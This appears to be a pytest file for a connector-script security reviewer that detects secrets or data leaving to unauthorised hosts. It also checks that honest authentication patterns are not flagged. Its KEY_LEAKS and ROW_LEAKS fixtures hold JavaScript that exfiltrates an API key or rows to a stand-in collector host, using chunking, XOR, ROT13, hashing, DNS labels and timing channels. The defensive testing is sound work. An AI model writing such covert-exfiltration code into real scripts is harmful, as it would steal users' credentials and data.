"""Data flow judged by dependence (issue 17; bundle-format.md, "Data flow").

Every leak here went through the value-matching review of before (the secret or the rows
transformed on the way, or sent where a value in a row made the site look like a source),
and every false accusation was raised by it; each test fails on that review.
"""

import json

import pytest

from review.engine import run_review
from tests.review.dataflow_cases import (
    ADD_ROWS,
    KEY,
    ROWS,
    finding,
    flow_review,
    rules,
    sample,
    security_errors,
)
from tests.review.helpers import FAST, make_bundle

COLLECTOR = ("api.example.com", "*.example-collector.net")
SINK = "https://telemetry.example-collector.net/v1"
# The key goes to the API in a header (its home); the rows come from the API.
API_ROWS = ("httprequest.addHeader('X-Api-Key', metadata.account.apikey);\n"
            "var rows = JSON.parse(httprequest.get('https://api.example.com/rows'));\naddRows(rows);\n"
            "httprequest.clearHeaders();\n")
API = [sample("https://api.example.com/rows", ROWS)]
K = "var k = metadata.account.apikey;\n"


def leak(script, responses=None, **kw):
    return flow_review(API_ROWS + script, responses or API, hosts=kw.pop("hosts", COLLECTOR), **kw)


def assert_caught(result, rule="data-exfiltration"):
    found = finding(result, rule) if rule != "data-exfiltration" else \
        [f for f in result.findings if f.rule == rule][0]
    assert found.severity == "error" and found.phase == "security"
    assert KEY not in found.message  # the value itself is never printed
    return found


KEY_LEAKS = {
    "in pieces over several requests":
        K + "for (var i = 0; i < k.length; i += 5) { httprequest.get('" + SINK + "?p=' + k.slice(i, i + 5)); }\n",
    "one character per request":
        K + "for (var i = 0; i < k.length; i++) { httprequest.get('" + SINK + "?c=' + k.charAt(i)); }\n",
    "reversed": K + "httprequest.post('" + SINK + "', k.split('').reverse().join(''));\n",
    "upper-cased": K + "httprequest.post('" + SINK + "', k.toUpperCase());\n",
    "as character codes":
        K + "var codes = []; for (var i = 0; i < k.length; i++) { codes.push(k.charCodeAt(i)); }\n"
        "httprequest.post('" + SINK + "', codes.join(','));\n",
    "XOR-scrambled":
        K + "var x = ''; for (var i = 0; i < k.length; i++) { x += String.fromCharCode(k.charCodeAt(i) ^ 42); }\n"
        "httprequest.post('" + SINK + "', escape(x));\n",
    "ROT13":
        K + "var r = k.replace(/[a-z]/g, function (c) { return String.fromCharCode((c.charCodeAt(0) - 84) % 26 + 97); });\n"
        "httprequest.post('" + SINK + "', r);\n",
    "md5": K + "httprequest.get('" + SINK + "?h=' + DOMO.md5(k));\n",
    "HMAC keyed with a known value": K + "httprequest.get('" + SINK + "?h=' + DOMO.hmacSHA256(k, 'known-key'));\n",
    "double base64": K + "httprequest.post('" + SINK + "', DOMO.b64EncodeUnicode(DOMO.b64EncodeUnicode(k)));\n",
    "bits in paths":
        K + "var c = k.charCodeAt(3);\n"
        "for (var b = 0; b < 8; b++) { httprequest.get('" + SINK + "/' + ((c >> b) & 1)); }\n",
    "hex in DNS labels":
        K + "var hex = ''; for (var i = 0; i < 6; i++) { hex += k.charCodeAt(i).toString(16); }\n"
        "httprequest.get('https://' + hex + '.dns.example-collector.net/x');\n",
    "encoded in DOMO.sleep timing":
        K + "for (var i = 0; i < 4; i++) { DOMO.sleep(k.charCodeAt(i)); httprequest.get('" + SINK + "'); }\n",
    "in the number of requests":
        K + "for (var i = 0; i < k.charCodeAt(0) % 7 + (k.charCodeAt(1) % 5); i++) { httprequest.get('" + SINK + "'); }\n",
}


@pytest.mark.parametrize("name", sorted(KEY_LEAKS))
def test_the_key_transformed_on_the_way_to_a_declared_sink_is_exfiltration(name):
    found = assert_caught(leak(KEY_LEAKS[name]))
    assert "example-collector.net" in found.message


def test_a_leak_without_a_known_form_says_what_changed_with_the_key_by_field_and_site():
    found = assert_caught(leak(KEY_LEAKS["reversed"]))
    assert ("a value that changes with the account's apikey (metadata.account.apikey) in the body of POST to "
            "telemetry.example-collector.net (site example-collector.net)") in found.message


def test_a_leak_with_a_known_form_says_where_it_is():
    found = assert_caught(leak(K + "httprequest.addHeader('Authorization', 'Bearer ' + k);\nhttprequest.get('" + SINK + "');\n"))
    assert "the account's apikey (metadata.account.apikey) in the authorization header of GET to" in found.message


def test_a_leak_over_several_requests_counts_them():
    found = assert_caught(leak(KEY_LEAKS["one character per request"]))
    # The dashes stay in the fresh key (same shape): those requests do not change.
    assert f"of {sum(c.isalnum() for c in KEY)} GET requests to telemetry.example-collector.net" in found.message


ROW_LEAKS = {
    "rows reversed": "httprequest.post('" + SINK + "', JSON.stringify(rows).split('').reverse().join(''));\n",
    "rows chunked": "rows.forEach(function (r) { httprequest.post('" + SINK + "', r.id.slice(0, 3)); "
                    "httprequest.post('" + SINK + "', r.id.slice(3)); });\n",
    # The old review did not count a value the script also held (a comment): row-000001.
    "a value also written in a comment": "// row-000001 row-000002\nhttprequest.get('" + SINK + "?id=' + rows[1].id);\n",
}


@pytest.mark.parametrize("name", sorted(ROW_LEAKS))
def test_the_rows_transformed_on_the_way_to_a_sink_are_exfiltration(name):
    found = assert_caught(leak(ROW_LEAKS[name]))
    assert "data received from api.example.com" in found.message


def test_a_sink_whose_one_answer_lands_in_a_row_is_a_source_but_the_key_there_is_an_error():
    result = leak(K + "var r = JSON.parse(httprequest.post('" + SINK + "', k));\n"
                  "datagrid.addCell(r.status); datagrid.addCell('x'); datagrid.endRow();\n",
                  API + [sample(SINK, {"status": "ok"}, "POST")])
    found = assert_caught(result, "credential-spread")
    assert "site example-collector.net is another site" in found.message


S3 = ("s3.us-east-1.amazonaws.com",)


def test_aws_put_to_another_bucket_on_the_same_s3_host_is_exfiltration():
    script = ("aws.createClient('us-east-1', 'AKIDEXAMPLE', metadata.account.apikey);\n"
              "var rows = JSON.parse(aws.get('bucket-a', 'rows.json'));\naddRows(rows);\n"
              "aws.put('bucket-b', 'copy.json', JSON.stringify(rows));\n")
    result = flow_review(script, [sample("https://s3.us-east-1.amazonaws.com/bucket-a/rows.json", ROWS)], hosts=S3)
    found = [f.message for f in result.findings if f.rule == "data-exfiltration"]
    assert any("data received from s3.us-east-1.amazonaws.com" in m and "site bucket-b@s3.us-east-1.amazonaws.com" in m
               for m in found), found


@pytest.mark.parametrize("auth,read", [
    ({"method": "username_password"}, "metadata.account.password"),
    ({"method": "api_key"}, "metadata.account.apikey"),
    ({"method": "oauth2"}, "metadata.account.accesstoken"),
    ({"method": "custom", "fields": [{"key": "token", "label": "Token", "secret": True}]}, "metadata.account.token"),
])
def test_a_bundle_without_sample_account_values_still_runs_with_secrets_and_its_leak_is_found(auth, read):
    manifest = {"hosts": list(COLLECTOR), "auth": auth,
                "samples": {"parameters": {}, "responses": API}}  # no "account", as a Dev Studio import
    script = (ADD_ROWS + "addRows(JSON.parse(httprequest.get('https://api.example.com/rows')));\n"
              "if (typeof " + read + " !== 'string' || !" + read + ") { throw new Error('no secret'); }\n"
              "httprequest.post('" + SINK + "', " + read + ".split('').reverse().join(''));\n")
    result = run_review(make_bundle(script, "auth.authenticationSuccess();\n", manifest), FAST)
    assert "runtime-error" not in rules(result)
    assert "data-exfiltration" in rules(result)


# ---- false accusations of honest code ----

AUTH_CHECK = ("httprequest.addHeader('X-Api-Key', metadata.account.apikey);\n"
              "httprequest.get('https://api.example.com/me');\n"
              "if (httprequest.getStatusCode() === 200) { auth.authenticationSuccess(); }\n"
              "else { auth.authenticationFailed('The API did not accept the key.'); }\n")
ME = sample("https://api.example.com/me", {"id": "user-778899"})
DATA_FLOW = {"data-exfiltration", "credential-spread", "data-forwarding", "credential-logging", "sandbox-tampering"}


@pytest.mark.parametrize("processdata", [
    "throw new Error('not written yet');\n",
    "var x = ;\n",  # a syntax error
    "/* an unclosed comment\n",
    "httprequest.addHeader('X-Api-Key', metadata.account.apikey);\nvar r = new XMLHttpRequest();\n",
    "httprequest.addHeader('X-Api-Key', metadata.account.apikey);\n"
    "var rows = JSON.parse(httprequest.get('https://api.example.com/rows'));\nrows.nope.forEach(function () {});\n",
])
def test_a_failing_run_is_never_accused_of_exfiltration(processdata):
    result = flow_review(processdata, [ME] + API, authentication=AUTH_CHECK)
    assert not DATA_FLOW & rules(result)
    assert rules(result) & {"runtime-error", "syntax-error", "no-xmlhttprequest"}


def test_discovery_options_from_the_api_make_it_a_source():
    discovery = ("httprequest.addHeader('X-Api-Key', metadata.account.apikey);\n"
                 "var list = JSON.parse(httprequest.get('https://api.example.com/workspaces'));\n"
                 "list.forEach(function (w) { discovery.addOption(w.name, w.id); });\n")
    manifest = {"hosts": ["api.example.com"],
                "parameters": [{"name": "Workspace", "type": "discovery", "required": True,
                                "discovery": {"mode": "list", "script": "discovery/workspaces.js"}}],
                "samples": {"account": {"apikey": KEY}, "parameters": {"Workspace": "ws-1"},
                            "responses": [sample("https://api.example.com/workspaces",
                                                 [{"id": "ws-1", "name": "Europe"}, {"id": "ws-2", "name": "Americas"}])]}}
    # The data script is still being written: only discovery reads from the API.
    bundle = make_bundle("throw new Error('todo');\n", "auth.authenticationSuccess();\n", manifest,
                         files={"discovery/workspaces.js": discovery.encode()})
    result = run_review(bundle, FAST)
    assert not DATA_FLOW & rules(result), [f.message for f in result.findings]
    assert [s["supplied_data"] for s in result.sites if s["site"] == "example.com"] == [True]


def test_a_sandbox_worker_that_dies_under_a_run_is_retried_and_never_a_finding(monkeypatch):
    from review.engine import sandbox_pool

    pool = sandbox_pool.shared_pool(FAST.workers)
    real = pool._submit_once
    died = set()  # the jobs whose first worker died under them (the pool runs them again)

    def first_two_jobs_die_once(job, timeout):
        if job.get("kind") == "run" and id(job) not in died and len(died) < 2:
            died.add(id(job))
            return {"status": "crashed: the sandbox worker exited with status -9"}
        return real(job, timeout)

    monkeypatch.setattr(pool, "_submit_once", first_two_jobs_die_once)
    result = flow_review("httprequest.addHeader('X-Api-Key', metadata.account.apikey);\n"
                         "addRows(JSON.parse(httprequest.get('https://api.example.com/rows')));\n",
                         [ME] + API, authentication=AUTH_CHECK)
    assert len(died) == 2
    assert security_errors(result) == [], [f.message for f in result.findings]
    assert not any("crashed" in f.message for f in result.findings), [f.message for f in result.findings]


def test_a_run_that_kills_every_fresh_worker_is_the_scripts_doing_and_no_data_flow_finding(monkeypatch):
    from review.engine import sandbox_pool

    pool = sandbox_pool.shared_pool(FAST.workers)
    tries = []

    def always_dies(job, timeout):
        tries.append(job)
        return {"status": "crashed: the sandbox worker exited with status -5"}

    real = pool._submit_once
    monkeypatch.setattr(pool, "_submit_once", lambda job, timeout: always_dies(job, timeout) if job.get("kind") == "run"
                        else real(job, timeout))
    result = flow_review("addRows([]);\n", API)
    assert len(tries) == (1 + sandbox_pool.CRASH_RETRIES) * 2  # each of the two runs, on a fresh worker each time
    assert any("could not finish: crashed" in f.message for f in result.findings if f.rule == "runtime-error")
    assert not DATA_FLOW & rules(result)


# ---- honest near misses that stay clean ----

def clean(result):
    assert not DATA_FLOW & rules(result), [f.message for f in result.findings if f.rule in DATA_FLOW]
    assert security_errors(result) == [], [f.message for f in security_errors(result)]


def test_oauth_token_refresh_at_the_providers_own_token_endpoint():
    script = ("var t = JSON.parse(httprequest.post('https://auth.example.com/oauth/token',\n"
              "  'grant_type=refresh_token&refresh_token=' + metadata.account.accesstoken)).access_token;\n"
              "httprequest.addHeader('Authorization', 'Bearer ' + t);\n"
              "addRows(JSON.parse(httprequest.get('https://api.example.com/rows')));\n")
    clean(flow_review(script, [sample("https://auth.example.com/oauth/token", {"access_token": "fresh-token-123456"},
                                      "POST")] + API,
                      hosts=("api.example.com", "auth.example.com"), auth={"method": "oauth2"},
                      account={"accesstoken": "oauth-sample-token-77"}))


def test_a_presigned_download_link_followed_as_received():
    link = "https://files.example-storage.net/exports/e-1.json?X-Amz-Signature=abc123def456&X-Amz-Expires=300"
    script = ("httprequest.addHeader('X-Api-Key', metadata.account.apikey);\n"
              "var job = JSON.parse(httprequest.post('https://api.example.com/exports', '{}'));\n"
              "httprequest.clearHeaders();\naddRows(JSON.parse(httprequest.get(job.url)));\n")
    clean(flow_review(script, [sample("https://api.example.com/exports", {"url": link}, "POST"), sample(link, ROWS)],
                      hosts=("api.example.com", "files.example-storage.net")))


def test_a_next_url_on_the_same_sites_cdn_host():
    script = ("httprequest.addHeader('X-Api-Key', metadata.account.apikey);\n"
              "var page = JSON.parse(httprequest.get('https://api.example.com/rows'));\naddRows(page.items);\n"
              "page = JSON.parse(httprequest.get(page.next));\n"
              "page.items.forEach(function (r) { datagrid.addCell(r.id); datagrid.addCell(r.name); datagrid.endRow(); });\n")
    nxt = "https://cdn.example.com/rows/page-2.json?token=pg2-556677"
    clean(flow_review(script, [sample("https://api.example.com/rows", {"items": ROWS[:2], "next": nxt}),
                               sample(nxt, {"items": ROWS[2:], "next": None})],
                      hosts=("api.example.com", "cdn.example.com")))


def test_an_hmac_signed_api():
    script = ("var ts = String(Date.now());\n"
              "var sig = DOMO.hmacSHA256('GET /rows ' + ts, metadata.account.apikey);\n"
              "httprequest.addHeader('X-Timestamp', ts);\nhttprequest.addHeader('X-Signature', sig);\n"
              "addRows(JSON.parse(httprequest.get('https://api.example.com/rows')));\n")
    clean(flow_review(script, API))


def test_a_jwt_signed_api():
    script = ("DOMO.jwtBuilder.algorithm = 'HS256'; DOMO.jwtBuilder.authKey = metadata.account.apikey;\n"
              "DOMO.jwtBuilder.issuer = 'connector';\n"
              "httprequest.addHeader('Authorization', 'Bearer ' + DOMO.getJWT());\n"
              "addRows(JSON.parse(httprequest.get('https://api.example.com/rows')));\n")
    clean(flow_review(script, API))


def test_a_connector_that_uses_every_domo_helper():
    script = ("var key = metadata.account.apikey;\n"
              "DOMO.setState('cursor', 'c-1'); DOMO.log('cursor ' + DOMO.getState('cursor'));\n"
              "var since = DOMO.getStartDate(null), until = DOMO.getEndDate(null);\n"
              "DOMO.log('from ' + since + ' to ' + until + ' at ' + new Date().toISOString());\n"
              "var sig = DOMO.hmacSHA1(since, key) + DOMO.hmacSHA256(until, key);\n"
              "httprequest.addHeader('Authorization', 'Basic ' + DOMO.b64EncodeUnicode('user:' + key));\n"
              "httprequest.addHeader('X-Sig', sig); httprequest.addHeader('X-Nonce', String(Math.random()));\n"
              "DOMO.sleep(250);\n"
              "var rows = JSON.parse(httprequest.get('https://api.example.com/rows?since=' + since));\n"
              "DOMO.log('etag ' + DOMO.md5(JSON.stringify(rows)) + ' ' + DOMO.b64DecodeUnicode(DOMO.b64EncodeUnicode('ok')));\n"
              "var doc = DOMO.parseXML('<a><b>1</b></a>');\n"
              "addRows(rows);\n")
    clean(flow_review(script, [{"method": "GET", "url_prefix": "https://api.example.com/rows", "status": 200,
                                "body": json.dumps(ROWS)}]))


def test_the_api_key_sent_to_two_hosts_of_one_registrable_domain():
    script = ("httprequest.get('https://auth.example.com/check?key=' + metadata.account.apikey);\n"
              "httprequest.addHeader('X-Api-Key', metadata.account.apikey);\n"
              "addRows(JSON.parse(httprequest.get('https://api.example.com/rows')));\n")
    clean(flow_review(script, [sample("https://auth.example.com/check?key=" + KEY, {"ok": True})] + API,
                      hosts=("api.example.com", "auth.example.com")))


def test_a_run_that_fails_on_its_first_line():
    result = flow_review("throw new Error('first line');\n", [ME] + API, authentication=AUTH_CHECK)
    assert not DATA_FLOW & rules(result)
    assert [f.rule for f in result.findings if f.rule != "missing-field"][:1] == ["runtime-error"]


def test_the_clock_and_math_random_are_the_same_in_every_run_so_they_never_look_like_a_secret():
    # Sent to a collector beside nothing secret: only a clock or a random number that
    # differs between the runs could make this look like it depends on the key.
    script = ("httprequest.get('" + SINK + "?t=' + Date.now() + '&d=' + new Date().getTime() + '&r=' + Math.random()"
              " + '&s=' + DOMO.getStartDate(null));\n")
    result = leak(script)
    assert not DATA_FLOW & rules(result), [f.message for f in result.findings]


# ---- a difference that cannot be attributed fails closed ----

@pytest.mark.parametrize("stall", [
    "while (true) {}",  # the variant passes its CPU-time limit
    "var a = []; while (true) { a.push(new Array(100000).join('x')); }",  # it runs out of memory
])
def test_a_variant_that_does_not_finish_where_the_sample_run_did_leaves_the_flow_undecided(stall):
    script = f"if (metadata.account.apikey !== '{KEY}') {{ {stall} }}\n" + \
        "addRows(JSON.parse(httprequest.get('https://api.example.com/rows')));\n"
    result = flow_review(script, API)
    found = finding(result, "sandbox-tampering")
    assert found.severity == "error" and "could not be decided" in found.message
    assert "the account's secrets changed" in found.message
    assert not {"timeout", "memory-limit"} & rules(result)  # the sample run itself finished


def test_a_perturbed_site_that_makes_the_run_loop_leaves_the_flow_undecided():
    script = ("var rows = JSON.parse(httprequest.get('https://api.example.com/rows'));\n"
              "if (rows[0].id !== 'row-000000') { while (true) {} }\naddRows(rows);\n")
    found = finding(flow_review(script, API), "sandbox-tampering")
    assert "the responses of site example.com perturbed" in found.message
